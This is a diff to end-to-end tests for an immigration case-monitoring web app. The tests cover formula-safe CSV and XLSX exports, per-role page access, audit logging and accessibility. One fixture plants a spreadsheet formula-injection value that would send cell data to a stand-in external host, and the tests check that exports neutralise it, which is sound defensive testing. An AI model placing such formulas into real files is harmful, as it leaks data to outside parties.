@@ -81,7 +81,7 @@ def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
         with session_scope(engine) as s:  # a label that a spreadsheet would run as a formula
             s.execute(
                 sa.update(FoiaLookup)
-                .where(col(FoiaLookup.table_name) == "nationality")
+                .where(col(FoiaLookup.table_name) == "nationality", FoiaLookup.code == "MX")
                 .values(label='=HYPERLINK("http://x.example/?"&A1)')
             )
         from spiders.detention_stats import parse_workbook
@@ -325,7 +325,8 @@ def test_caseload_and_its_csv_are_formula_safe(site: Site, page: Any) -> None:
     assert rows[0][:3] == ["case", "proceeding", "nationality"] and len(rows) > 5
     cells = [cell for row in rows for cell in row]
     assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
-    assert all(row[2].lower().startswith("'=hyperlink(") for row in rows[1:])
+    mexican = [row[2] for row in rows[1:] if row[2].endswith("(MX)")]
+    assert mexican and all(n.lower().startswith("'=hyperlink(") for n in mexican)
 
 
 def test_spanish_pages(site: Site, page: Any) -> None:
@@ -436,7 +437,9 @@ def test_caseload_filters_sorting_pages_and_xlsx(site: Site, page: Any) -> None:
     assert sheet is not None
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[1][:2] == ("case", "proceeding") and len(rows) == every + 2
-    cell = sheet.cell(row=3, column=3)
+    (cell,) = [row[2] for row in sheet.iter_rows(min_row=3) if str(row[2].value).endswith("(MX)")][
+        :1
+    ]
     assert cell.data_type == "s" and str(cell.value).startswith("=")  # text, never a formula
     accessible(page)
 
@@ -491,6 +494,10 @@ def test_roster_upload_preview_rejects_and_import(site: Site, page: Any, tmp_pat
     rejects = list(csv.reader(io.StringIO(Path(download.value.path()).read_text())))
     assert [r[0] for r in rejects[1:]] == ["4", "5"]
     assert not any(c.startswith("=") for r in rejects for c in r)
+    with session_scope(site.engine) as s:  # rows with names and A-numbers: the view is audited
+        assert s.exec(
+            select(AuditEntry).where(AuditEntry.action == "roster_rejects_download")
+        ).first()
     page.get_by_role("button", name="Import the accepted rows").click()
     page.wait_for_load_state()
     assert page.get_by_role("status").inner_text() == "Imported"
@@ -602,3 +609,45 @@ def test_calendar_feed_from_the_home_page_follows_a_moved_hearing(site: Site, pa
     page.get_by_role("button", name="Revoke my calendar address").click()
     page.wait_for_load_state()
     assert page.request.get(address).status == 404
+
+
+ROLE_PAGES = {  # page -> the roles that open it; every other role gets 403
+    "/": {"attorney", "coordinator", "admin"},
+    "/alerts": {"attorney", "coordinator", "admin"},
+    "/facilities": {"attorney", "coordinator", "admin"},
+    "/caseload?court=ADL": {"coordinator", "admin"},
+    "/caseload/hearings?court=ADL": {"coordinator", "admin"},
+    "/roster": {"coordinator", "admin"},
+    "/sources": {"admin"},
+    "/staff": {"admin"},
+}
+
+
+@pytest.mark.parametrize("who", ["attorney", "coordinator", "admin"])
+def test_every_page_for_every_role(site: Site, page: Any, who: str) -> None:
+    """Each page answers each role as its role allows, and every page a role opens passes
+    axe-core; so do the pages anyone with a link opens (ack, not found)."""
+    email = {"attorney": site.org.attorney, "coordinator": site.org.coordinator,
+             "admin": site.org.admin}[who]  # fmt: skip
+    sign_in(page, site, email)
+    for path, roles in ROLE_PAGES.items():
+        answer = page.goto(f"{site.base}{path}")
+        assert answer.status == (200 if who in roles else 403), (who, path)
+        accessible(page)
+    assert page.goto(f"{site.base}/clients/999999").status == 404
+    accessible(page)
+    if who == "admin":
+        from monitor.messages import ack_link
+
+        event = emit_one(site.engine, hearing_moved(site.org, site.clock["now"], key="axe"),
+                         site.clock["now"])  # fmt: skip
+        assert event is not None and event.id is not None
+        link = ack_link(site.base, "web-secret", event.id, event.created_at)
+        assert link is not None
+        page.context.clear_cookies()  # an ack link needs no sign-in
+        assert page.goto(link).status == 200
+        accessible(page)
+        page.get_by_role("button", name="Acknowledge").click()
+        page.wait_for_load_state()
+        assert f"Alert #{event.id} acknowledged" in page.inner_text("main")
+        accessible(page)
